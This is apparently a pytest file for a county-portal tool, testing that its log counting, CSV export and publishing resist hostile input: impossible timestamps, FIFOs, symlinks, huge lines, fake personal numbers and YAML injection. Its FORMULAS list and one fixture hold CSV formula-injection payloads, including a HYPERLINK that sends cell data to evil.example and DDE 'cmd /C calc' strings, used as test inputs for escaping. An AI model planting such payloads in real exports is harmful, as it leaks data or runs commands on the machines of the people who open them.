"""Hostile input to ``zhanqun annual-report --access-log``, ``annual-report --publish`` and ``stats --ranking
--publish`` (issue 12, R8.3, R8.4): impossible times, FIFOs, devices, folders, link loops and 50 MB lines in the
access logs; formula cells in the CSVs; personal data in the fill-in file; links where the publishers write.

Everything is real: files, FIFOs, /dev/zero, symlinks, gzip, git repositories, the command line in a subprocess
where a regression would hang."""

from __future__ import annotations

import datetime as dt
import gzip
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from tests.inspectrepo import Repo, column, news
from tests.test_stats_events import history_repo  # noqa: F401 - the ranking's scripted county
from zhanqun.stats import visits

WWW = "www.shilixian.gov.cn"
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"
YEAR = (dt.datetime(2026, 1, 1), dt.datetime(2027, 1, 1))
ZHANQUN = Path(sys.executable).with_name("zhanqun")


def _line(at: str, address: str = "10.0.0.1", path: str = "/") -> str:
    return f"zq1\t{at}\t{WWW}\t{address}\tGET\t{path}\tHTTP/2.0\t200\t612\t-\t{CHROME}\n"


def _run(*args: object, timeout: int = 120) -> subprocess.CompletedProcess:
    """The real command line in its own process: a read that blocks fails the test by the timeout, not hangs it."""
    return subprocess.run([str(ZHANQUN), *map(str, args)], capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, "NO_COLOR": "1"})


# -- 1. access logs ----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("moment, why", [
    ("2026-13-01T10:00:00+08:00", "month 13"),
    ("2026-02-31T10:00:00+08:00", "31 February"),
    ("2026-03-01T25:61:00+08:00", "25:61"),
    ("2026-03-01T10:61:00+08:00", "minute 61"),
    ("2026-03-01T10:00:60+08:00", "second 60"),
    ("2026-00-10T10:00:00+08:00", "month 0"),
    ("2026-13-01T02:00:00+00:00", "month 13 in UTC (another code path)"),
    ("1970-01-01T08:00:00+08:00", "a clock reset to 1970"),
    ("9999-12-31T23:59:59+08:00", "year 9999"),
    ("2999-06-01T10:00:00+08:00", "year 2999"),
    ("12026-03-01T10:00:00+08:00", "five digits of year"),
    ("2026-03-01T10:00:00+99:99", "a zone that does not exist"),
    ("2026-03-01T10:00:00+15:00", "beyond +14:00"),
    ("2026-03-01T10:00:00+08:00:00", "a zone with seconds"),
    ("2026-03-01 10:00:00+08:00", "no T"),
    ("２０２６-03-01T10:00:00+08:00", "full-width digits"),
])
def test_an_impossible_time_is_a_broken_line_with_file_and_line_not_a_crash_nor_a_visit(tmp_path, moment, why):
    """R8.4: the line is T040 at its line number, says the time cannot be, and adds no page view; the rest of the
    file is counted as before."""
    log = tmp_path / "access.log"
    log.write_text(_line("2026-03-01T10:00:00+08:00") + _line(moment, address="10.6.6.6")
                   + _line("2026-03-02T10:00:00+08:00"), encoding="utf-8")
    tally = visits.count([log], *YEAR)
    assert tally[WWW] == visits.Visits(page_views=2, unique_visitors=1), why
    assert (tally.lines, tally.broken) == (3, 1), why
    found = [f for f in tally.findings if f.code == "T040"]
    assert [(f.path, f.line) for f in found] == [(str(log), 2)], why
    assert "没有计入" in found[0].message
    assert tally.days == {dt.date(2026, 3, 1), dt.date(2026, 3, 2)}


def test_an_impossible_time_is_named_as_such(tmp_path):
    log = tmp_path / "access.log"
    log.write_text(_line("2026-03-01T10:00:00+08:00") + _line("2026-02-31T10:00:00+08:00"), encoding="utf-8")
    message = next(f.message for f in visits.count([log], *YEAR).findings if f.code == "T040")
    assert "时间“2026-02-31T10:00:00+08:00”不可能" in message


def test_impossible_times_in_the_cli_are_warnings_and_the_report_is_made(history, tmp_path):
    log = tmp_path / "access.log"
    log.write_text(_line("2025-03-01T10:00:00+08:00") + _line("2025-13-01T10:00:00+08:00")
                   + _line("2025-02-29T10:00:00+00:00"), encoding="utf-8")
    result = _run("annual-report", "2025", "www", "--root", history.root, "--format", "json", "--access-log", log)
    assert result.returncode == 0, result.stderr
    assert f"{log}:2: T040" in result.stderr and f"{log}:3: T040" in result.stderr
    assert "Traceback" not in result.stderr
    rows = {row["id"]: row["value"] for row in json.loads(result.stdout)["reports"][0]["rows"]}
    assert rows["page_views"] == 1


def _fifo(tmp_path: Path) -> Path:
    path = tmp_path / "access.log"
    os.mkfifo(path)
    return path


def _loop(tmp_path: Path) -> Path:
    (tmp_path / "a.log").symlink_to(tmp_path / "b.log")
    (tmp_path / "b.log").symlink_to(tmp_path / "a.log")
    return tmp_path / "a.log"


def _folder(tmp_path: Path) -> Path:
    (tmp_path / "logs").mkdir()
    return tmp_path / "logs"


def _link_to_device(tmp_path: Path) -> Path:
    (tmp_path / "access.log").symlink_to("/dev/zero")
    return tmp_path / "access.log"


@pytest.mark.parametrize("make, words", [
    (_fifo, "命名管道"),
    (lambda tmp: Path("/dev/zero"), "设备"),
    (lambda tmp: Path("/dev/urandom"), "设备"),
    (_link_to_device, "设备"),
    (_folder, "文件夹"),
    (_loop, "循环"),
])
def test_what_is_not_a_regular_file_is_refused_with_t042_before_it_is_read(history, tmp_path, make, words):
    """R8.4: a FIFO (which would block for ever), a device (which never ends, or silently counted as empty), a
    folder and a symlink loop: T042 in Chinese with the file's name, exit 1, at once, nothing written."""
    log = make(tmp_path)
    good = tmp_path / "good.log"
    good.write_text(_line("2025-03-01T10:00:00+08:00"), encoding="utf-8")
    result = _run("annual-report", "2025", "--root", history.root, "--access-log", good, "--access-log", log,
                  timeout=60)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "T042" in result.stderr and str(log) in result.stderr and words in result.stderr
    assert "Traceback" not in result.stderr and "Invalid value" not in result.stderr
    assert result.stdout == ""


def test_a_fifo_put_in_place_of_a_planned_file_is_refused_by_the_worker_too(tmp_path):
    """The worker opens its file again: a log replaced by a FIFO after it was looked at is T042, not a hang."""
    log = _fifo(tmp_path)
    part = visits._Job(*YEAR, None).run((str(log), 0, 100))
    assert "命名管道" in part.unreadable and part.lines == 0


_SMUGGLED = _line("2026-05-05T10:00:00+08:00", address="10.6.6.6", path="/smuggled.html")


def _huge(size: int) -> bytes:
    """A line of ``size`` bytes without a newline inside; a valid-looking line hides past its first megabyte."""
    junk = b"zq1\t" + b"A" * (size // 2) + b"\t"
    return junk + _SMUGGLED.encode().rstrip(b"\n") + b"B" * (size - len(junk) - len(_SMUGGLED)) + b"\n"


def _huge_log(path: Path, size: int = 50_000_000, tail: bool = True) -> Path:
    with path.open("wb") as out:
        out.write(_line("2026-03-01T10:00:00+08:00").encode())
        out.write(_huge(size) if tail else _huge(size)[:-1])
        if tail:
            out.write(_line("2026-03-02T10:00:00+08:00", address="10.0.0.2").encode())
    return path


def _expect_one_broken(tally: visits.Tally, path: Path, lines: int = 3) -> None:
    assert (tally.lines, tally.broken) == (lines, 1)
    assert tally[WWW].page_views == lines - 1, "a line hidden inside the long line was counted"
    found = [f for f in tally.findings if f.code == "T040"]
    assert [(f.path, f.line) for f in found] == [(str(path), 2)]
    assert "超过 1 MB" in found[0].message and len(found[0].message) < 300


def test_a_50_mb_line_is_one_broken_line_and_hides_no_visit(tmp_path):
    log = _huge_log(tmp_path / "access.log")
    _expect_one_broken(visits.count([log], *YEAR, jobs=1), log)


def test_a_50_mb_line_without_a_newline_at_the_end_of_the_file(tmp_path):
    log = _huge_log(tmp_path / "access.log", tail=False)
    _expect_one_broken(visits.count([log], *YEAR, jobs=1), log, lines=2)


def test_a_long_line_in_gzip_and_across_the_workers_ranges_is_still_one_broken_line(tmp_path, monkeypatch):
    plain = _huge_log(tmp_path / "access.log", size=5_000_000)
    packed = tmp_path / "access.log.2.gz"
    packed.write_bytes(gzip.compress(plain.read_bytes(), compresslevel=1))
    _expect_one_broken(visits.count([packed], *YEAR, jobs=1), packed)
    monkeypatch.setattr(visits, "RANGE", 1 << 20)  # five ranges begin inside the long line
    _expect_one_broken(visits.count([plain], *YEAR, jobs=2), plain)


_PEAK = """
import datetime as dt, json, sys
from zhanqun.stats import visits
tally = visits.count([sys.argv[1]], dt.datetime(2026, 1, 1), dt.datetime(2027, 1, 1), jobs=1)
peak = next(line for line in open("/proc/self/status") if line.startswith("VmHWM:")).split()[1]
print(json.dumps({"kb": int(peak), "lines": tally.lines, "broken": tally.broken}))
"""


def test_a_50_mb_line_is_read_in_bounded_memory(tmp_path):
    """Over a process that counted a one-line log, the peak grows by the pieces read, not by the 50 MB line."""
    big = _huge_log(tmp_path / "big.log")
    packed = tmp_path / "big.log.1"
    packed.write_bytes(gzip.compress(big.read_bytes(), compresslevel=1))
    small = tmp_path / "small.log"
    small.write_text(_line("2026-03-01T10:00:00+08:00"), encoding="utf-8")

    def peak(path: Path) -> dict:
        done = subprocess.run([sys.executable, "-c", _PEAK, str(path)], capture_output=True, text=True, check=True)
        return json.loads(done.stdout)

    floor = peak(small)["kb"]
    for path in (big, packed):
        found = peak(path)
        assert (found["lines"], found["broken"]) == (3, 1)
        grown_mb = (found["kb"] - floor) / 1024
        assert grown_mb < 8, f"{path.name}: {grown_mb:.0f} MB more than counting one line (the line is 50 MB)"


# -- a county with a year of history --------------------------------------------------------------------------------

PORTAL_COLUMNS = [column("zwyw", "政务要闻"), column("ndbb", "年度报表", "notice", "通知公告")]


@pytest.fixture
def history(tmp_path) -> Repo:
    repo = Repo(tmp_path / "county", portal=PORTAL_COLUMNS, when="2025-01-06T09:00:00+08:00")
    repo.commit("2025-03-01", {"content/xzf/zwyw/a.md": news("春耕生产", "2025-03-01", source="示例县人民政府")})
    repo.commit("2025-06-01", {"content/qingshan/gzdt/b.md": news("青山镇夏收", "2025-06-01")})
    return repo


# -- 2. formula cells in the CSVs ------------------------------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "=cmd|' /C notepad'!'A1'"]


def _cells(data: str) -> list[list[str]]:
    assert data.startswith("\ufeff")
    import csv
    import io

    return list(csv.reader(io.StringIO(data[1:], newline="")))


def _no_formula(rows: list[list[str]]) -> None:
    """What Excel and LibreOffice look at, without either: no cell of the file starts (after spaces) like a
    formula."""
    for number, row in enumerate(rows, 1):
        for cell in row:
            first = cell.lstrip(" \n\u3000")[:1]
            assert not first or first not in "=+-@\t\r＝＋－＠", (number, cell)


@pytest.mark.parametrize("evil", FORMULAS)
def test_a_cell_that_starts_like_a_formula_is_written_as_text(evil):
    from zhanqun.stats import publishing

    rows = _cells(publishing.csv_text([["名称", "数值"], [evil, 3], ["示例县发布", -1.5]]))
    assert rows[1] == ["'" + evil, "3"]  # the words are kept, after the ' a spreadsheet does not show
    assert rows[2] == ["示例县发布", "-1.5"]  # a number is a number (only text is escaped)
    _no_formula(rows[:2])


def test_the_ranking_csv_escapes_a_unit_name_that_is_a_formula():
    """R8.3: unit names come from unit.yaml, which any editor of the unit may change."""
    from zhanqun.stats import page, ranking

    entries = [ranking.Entry("qingshui", evil, None, 0, 0, None, {m: None for m in ranking.MEASURES}, 50.0, 1)
               for evil in FORMULAS]
    table = ranking.Ranking(2026, "=示例县", "0" * 40, dt.date(2026, 12, 31), {"updates": 40}, entries, True)
    rows = _cells(page.as_csv(table))
    assert [row[2] for row in rows[1:]] == ["'" + evil for evil in FORMULAS]
    _no_formula(rows)


def test_the_annual_csv_escapes_filled_texts_and_names_that_are_formulas(history):
    """R8.4: the fill-in file's texts (微博名称, 其他 …) as ``--format csv`` writes them and ``--publish`` publishes."""
    fill = history.root / "content/xzf/annual-report/2025.yaml"
    fill.parent.mkdir(parents=True)
    fill.write_text("网站:\n  xzf:\n    是否有移动新媒体: 是\n    微博名称: '=HYPERLINK(\"http://evil.example\",\"示例\")'\n"
                    "    微信名称: '@SUM(A1:A9)'\n    其他创新: \"\\t=1+1\"\n    单位负责人: '-3+3'\n", encoding="utf-8")
    result = _run("annual-report", "2025", "www", "--root", history.root, "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = _cells(result.stdout.rstrip("\n"))
    values = {(group, label): value for _, group, label, value, _ in rows[1:]}
    assert values[("移动新媒体·微博", "名称")] == "'=HYPERLINK(\"http://evil.example\",\"示例\")"
    assert values[("移动新媒体·微信", "名称")] == "'@SUM(A1:A9)"
    assert values[("创新发展", "其他")] == "'\t=1+1" and values[("", "单位负责人")] == "'-3+3"
    _no_formula(rows)


# -- 4. --publish: no links on the way, whole files or none ------------------------------------------------------------

ANNUAL = "content/xzf/ndbb"
ANNUAL_FILES = [f"{ANNUAL}/2025-niandu-baobiao-{unit}.{ext}" for unit in ("xzf", "qingshan") for ext in ("md", "csv")]


@pytest.fixture
def annual_repo(history) -> Path:
    config = history.root / "content/cluster.yaml"
    config.write_text(config.read_text(encoding="utf-8") + "stats:\n  annual_report_column: ndbb\n", encoding="utf-8")
    return history.root


def _tree(folder: Path) -> dict[str, bytes]:
    """Every file below ``folder`` (links as their target's name), to compare before and after."""
    found = {}
    for path in sorted(folder.rglob("*")):
        if path.is_symlink():
            found[str(path.relative_to(folder))] = b"-> " + os.readlink(path).encode()
        elif path.is_file():
            found[str(path.relative_to(folder))] = path.read_bytes()
    return found


def _outside(tmp_path: Path) -> Path:
    outside = tmp_path / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "keep.txt").write_text("不能被改动", encoding="utf-8")
    return outside


def _column_link_outside(root: Path, tmp_path: Path) -> str:
    (root / ANNUAL).symlink_to(_outside(tmp_path), target_is_directory=True)
    return ANNUAL


def _column_link_inside(root: Path, tmp_path: Path) -> str:
    (root / ANNUAL).symlink_to("zwyw", target_is_directory=True)  # another column of the same repository
    return ANNUAL


def _file_link_dangling(root: Path, tmp_path: Path) -> str:
    (root / ANNUAL).mkdir()
    (root / ANNUAL_FILES[1]).symlink_to(_outside(tmp_path) / "new.csv")  # exists() is False: it would be created
    return ANNUAL_FILES[1]


def _file_link_existing(root: Path, tmp_path: Path) -> str:
    (root / ANNUAL).mkdir()
    (root / ANNUAL_FILES[0]).symlink_to(_outside(tmp_path) / "keep.txt")
    return ANNUAL_FILES[0]


def _file_fifo(root: Path, tmp_path: Path) -> str:
    (root / ANNUAL).mkdir()
    os.mkfifo(root / ANNUAL_FILES[2])  # writing would wait for a reader for ever
    return ANNUAL_FILES[2]


def _file_folder(root: Path, tmp_path: Path) -> str:
    (root / ANNUAL_FILES[3]).mkdir(parents=True)
    return ANNUAL_FILES[3]


@pytest.mark.parametrize("make, words", [
    (_column_link_outside, "符号链接"), (_column_link_inside, "符号链接"), (_file_link_dangling, "符号链接"),
    (_file_link_existing, "符号链接"), (_file_fifo, "特殊文件"), (_file_folder, "文件夹"),
])
def test_annual_publish_through_a_link_or_into_a_special_file_is_t031_and_writes_nothing(annual_repo, tmp_path, make,
                                                                                          words):
    """R8.4: the column folder or a target file a link (outside the repository or inside it, dangling or not), a
    FIFO, a folder: T031 in Chinese naming the path, exit 1, with --force too, and not one byte written anywhere."""
    bad = make(annual_repo, tmp_path)
    before, outside = _tree(annual_repo / "content"), _tree(_outside(tmp_path))
    for force in ([], ["--force"]):
        result = _run("annual-report", "2025", "--root", annual_repo, "--publish", *force, timeout=60)
        assert result.returncode == 1, result.stdout + result.stderr
        assert "T031" in result.stderr and bad in result.stderr and words in result.stderr, result.stderr
        assert "什么也没有写" in result.stderr and "Traceback" not in result.stderr
        assert _tree(annual_repo / "content") == before and _tree(_outside(tmp_path)) == outside
    assert not list((annual_repo / "content").rglob(".*.tmp"))


RANKING = "content/xzf/zwyw"
RANKING_FILES = [f"{RANKING}/2026-niandu-zonghe-ceping.md", f"{RANKING}/attachments/2026-niandu-zonghe-ceping.csv"]


def _ranked(history_repo, tmp_path) -> Path:  # noqa: F811
    """The ranking's county (tests.test_stats_events), with stats: ranking_column: zwyw."""
    import shutil

    root = tmp_path / "ranked"
    shutil.copytree(history_repo[0], root, symlinks=True)
    config = root / "content/cluster.yaml"
    config.write_text(config.read_text(encoding="utf-8") + "stats:\n  ranking_column: zwyw\n", encoding="utf-8")
    return root


@pytest.mark.parametrize("make, bad", [
    (lambda root, out: (root / RANKING / "attachments").symlink_to(out, target_is_directory=True),
     f"{RANKING}/attachments"),  # a folder between the column and the file
    (lambda root, out: (root / RANKING / "attachments").symlink_to("../../qingshui", target_is_directory=True),
     f"{RANKING}/attachments"),  # pointing inside the repository
    (lambda root, out: (root / RANKING_FILES[0]).symlink_to(out / "keep.txt"), RANKING_FILES[0]),
    (lambda root, out: ((root / RANKING / "attachments").mkdir(), (root / RANKING_FILES[1]).symlink_to(out / "x.csv")),
     RANKING_FILES[1]),
])
def test_ranking_publish_through_a_link_is_t011_and_writes_nothing(history_repo, tmp_path, make, bad):  # noqa: F811
    """R8.3: the same guard for ``stats --ranking --publish``: T011, exit 1, nothing written (the item is not left
    without its CSV, nothing lands outside the repository)."""
    root = _ranked(history_repo, tmp_path)
    outside = _outside(tmp_path)
    make(root, outside)
    before, kept = _tree(root / "content"), _tree(outside)
    for force in ([], ["--force"]):
        result = _run("stats", "--root", root, "--ranking", "2026", "--publish", *force, timeout=120)
        assert result.returncode == 1, result.stdout + result.stderr
        assert "T011" in result.stderr and bad in result.stderr and "符号链接" in result.stderr, result.stderr
        assert _tree(root / "content") == before and _tree(outside) == kept


def test_the_ranking_column_folder_itself_a_link_is_refused(history_repo, tmp_path):  # noqa: F811
    root = _ranked(history_repo, tmp_path)
    column_dir = root / RANKING
    moved = tmp_path / "elsewhere"
    column_dir.rename(moved)
    column_dir.symlink_to(moved, target_is_directory=True)
    from zhanqun.errors import ZhanqunError
    from zhanqun.stats import page, ranking

    with pytest.raises(ZhanqunError) as raised:
        page.publish(root, ranking.run(root, 2026))
    assert raised.value.code == "T011" and RANKING in raised.value.message
    assert not list(moved.rglob("*ceping*"))


_LIMITED = """
import resource, signal, sys
from pathlib import Path
from zhanqun.cli import main
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG instead of killing
resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[1]), int(sys.argv[1])))
sys.exit(main(sys.argv[2:]))
"""


def test_a_write_that_fails_half_way_leaves_no_file_and_no_temporary(annual_repo):
    """R8.4: the CSVs (a few kB) fit under the file size limit, the items (the whole table) do not: the old way
    wrote the first CSV and then failed on its item; now nothing is in place and no temporary is left."""
    assert _run("annual-report", "2025", "--root", annual_repo).returncode == 0  # the parse cache is warm
    before = _tree(annual_repo / "content")
    done = subprocess.run([sys.executable, "-c", _LIMITED, "6000", "annual-report", "2025", "--root",
                           str(annual_repo), "--publish"], capture_output=True, text=True, timeout=120)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "T031" in done.stderr and "无法写入" in done.stderr and "什么也没有写" in done.stderr, done.stderr
    assert _tree(annual_repo / "content") == before
    assert not list((annual_repo / "content").rglob(".*.tmp"))
    ok = _run("annual-report", "2025", "--root", annual_repo, "--publish")
    assert ok.returncode == 0, ok.stderr
    assert all((annual_repo / rel).is_file() for rel in ANNUAL_FILES)


# -- 3. personal data in the fill-in file ------------------------------------------------------------------------------

def _fakes() -> dict[str, str]:
    import random

    from tests import fakes

    rng = random.Random(12)
    return {"id": fakes.id18(rng), "mobile": fakes.mobile(rng), "card": fakes.card(rng), "spaced": fakes.id18_spaced(rng)}


FILL = "content/xzf/annual-report/2025.yaml"


def _fill(root: Path, text: str) -> Path:
    path = root / FILL
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def _personal_fill() -> tuple[str, dict[str, str], dict[str, tuple[int, str]]]:
    fake = _fakes()
    text = ("共同:\n"
            f"  填报人: 周敏（身份证 {fake['id']}）\n"  # line 2
            f"  联系电话: {fake['mobile']}\n"  # line 3
            "网站:\n  xzf:\n    是否有移动新媒体: 是\n"
            f"    微博名称: 示例县发布，补贴打到卡号 {fake['card']}\n"  # line 7
            f"    注册用户数: {fake['mobile']}\n"  # line 8: a count, not a phone
            f"    其他创新: \"{fake['spaced']}\"\n"  # line 9: an ID written in groups of four
            f"# 审核人电话 {fake['mobile']}\n")  # line 10: the file's history is public too
    expected = {"P001": (2, fake["id"]), "P002": (3, fake["mobile"]), "P003": (7, fake["card"])}
    return text, fake, expected


def test_personal_data_in_the_fill_in_file_is_what_zhanqun_check_finds_in_any_item(history):
    """R4.2, R8.4: the personal-data gate of every item, same codes (P001 ID, P002 mobile, P003 card), file and
    line, masked numbers, exit 1; a number value (a count) is not a phone; comments are scanned."""
    text, fake, expected = _personal_fill()
    _fill(history.root, text)
    result = _run("check", "--root", history.root)
    assert result.returncode == 1, result.stdout
    out = result.stdout
    for code, (line, _) in expected.items():
        assert re.search(rf"{re.escape(FILL)}:{line}:\d+: {code} ", out), (code, out)
    assert re.search(rf"{re.escape(FILL)}:9:\d+: P001 ", out) and re.search(rf"{re.escape(FILL)}:10:\d+: P002 ", out)
    assert not re.search(rf"{re.escape(FILL)}:8:", out), out  # 注册用户数 is a number
    for number in fake.values():
        assert number not in out and number.replace(" ", "") not in out  # never shown in full
    # pre-commit mode: only the file, as the hook passes it
    hook = _run("check", "--root", history.root, history.root / FILL)
    assert hook.returncode == 1 and all(f" {code} " in hook.stdout for code in expected), hook.stdout
    # the same text in a news item gives the same codes
    item = "content/xzf/zwyw/pii.md"
    (history.root / item).write_text(news("联系方式", "2025-03-02", source="示例县人民政府",
                                          body=text.replace("#", "").replace("\n", "\n\n")), encoding="utf-8")
    codes = lambda prefix, output: sorted(set(re.findall(rf"{re.escape(prefix)}:\d+:\d+: (P00\d)", output)))  # noqa: E731
    both = _run("check", "--root", history.root).stdout
    assert codes(FILL, both) == codes(item, both) == ["P001", "P002", "P003"]


def test_personal_data_in_the_fill_in_file_stops_the_report_and_its_publishing(annual_repo):
    text, fake, _ = _personal_fill()
    _fill(annual_repo, text)
    before = _tree(annual_repo / "content")
    for args in ([], ["--format", "csv"], ["--publish"]):
        result = _run("annual-report", "2025", "--root", annual_repo, *args)
        assert result.returncode == 1, result.stdout + result.stderr
        shown = result.stdout + result.stderr
        assert "P001" in shown and "P002" in shown and "P003" in shown and "存在" in result.stderr
        assert all(n not in result.stdout + result.stderr for n in fake.values())
        assert "示例县发布" not in shown  # no report with the texts was printed
    assert _tree(annual_repo / "content") == before


def test_an_office_phone_and_counts_in_the_fill_in_file_pass(annual_repo):
    """What the gate lets through in items it lets through here: a fixed office line, a count of 11 digits."""
    _fill(annual_repo, "共同:\n  联系电话: 0000-12345678\n  填报人: 周敏\n网站:\n  xzf:\n    网民留言数量: 13800138000\n"
                       "    注册用户数: 19912345678.5\n")
    checked = _run("check", "--root", annual_repo)
    assert checked.returncode == 0, checked.stdout
    assert _run("annual-report", "2025", "--root", annual_repo).returncode == 0


def test_the_fill_in_file_passes_every_text_gate_of_an_item(history):
    """Like any content file (R4.3, R4.4): a secrecy marking and an illegal-service advert in the filled texts
    are M001 and X001 in zhanqun check."""
    _fill(history.root, "网站:\n  xzf:\n    是否有移动新媒体: 是\n    微博名称: 秘密★5年 示例\n    其他创新: 代开发票\n")
    result = _run("check", "--root", history.root)
    assert result.returncode == 1
    assert re.search(rf"{re.escape(FILL)}:4:\d+: M001 ", result.stdout), result.stdout
    assert re.search(rf"{re.escape(FILL)}:5:\d+: X001 ", result.stdout), result.stdout


def test_force_replaces_a_hard_linked_file_and_leaves_the_other_name_alone(annual_repo, tmp_path):
    """A file hard-linked to one outside the column (same inode) is replaced by a rename, never written into:
    the other name keeps its bytes (a write_text through the shared inode would have changed both)."""
    (annual_repo / ANNUAL).mkdir()
    other = annual_repo / "notes.txt"  # same file system as the repository, outside the column
    other.write_text("别处的文件", encoding="utf-8")
    os.link(other, annual_repo / ANNUAL_FILES[1])
    result = _run("annual-report", "2025", "--root", annual_repo, "--publish", "--force")
    assert result.returncode == 0, result.stderr
    assert other.read_text(encoding="utf-8") == "别处的文件"
    assert (annual_repo / ANNUAL_FILES[1]).read_bytes().startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("content_type", ["notice", "news"])
def test_the_ranking_notice_keeps_a_portal_name_with_yaml_syntax_as_one_value(content_type):
    """R8.3: the portal's name comes from unit.yaml; a ": " or a line break in it must not add or break a key of
    the published 通报's front matter."""
    import types

    from ruamel.yaml import YAML

    from zhanqun.stats import page, ranking

    evil = "示例县: 人民政府\nimportance: headline"
    portal = types.SimpleNamespace(name=evil, short_name=evil)
    table = ranking.Ranking(2026, "示例县", "0" * 40, dt.date(2026, 12, 31), {"updates": 40}, [], True)
    text = page.markdown(table, portal, content_type, dt.date(2027, 1, 5))
    front = YAML(typ="safe").load(text.split("---\n")[1])
    assert front["importance"] == "general"
    assert front["publisher" if content_type == "notice" else "source"] == evil
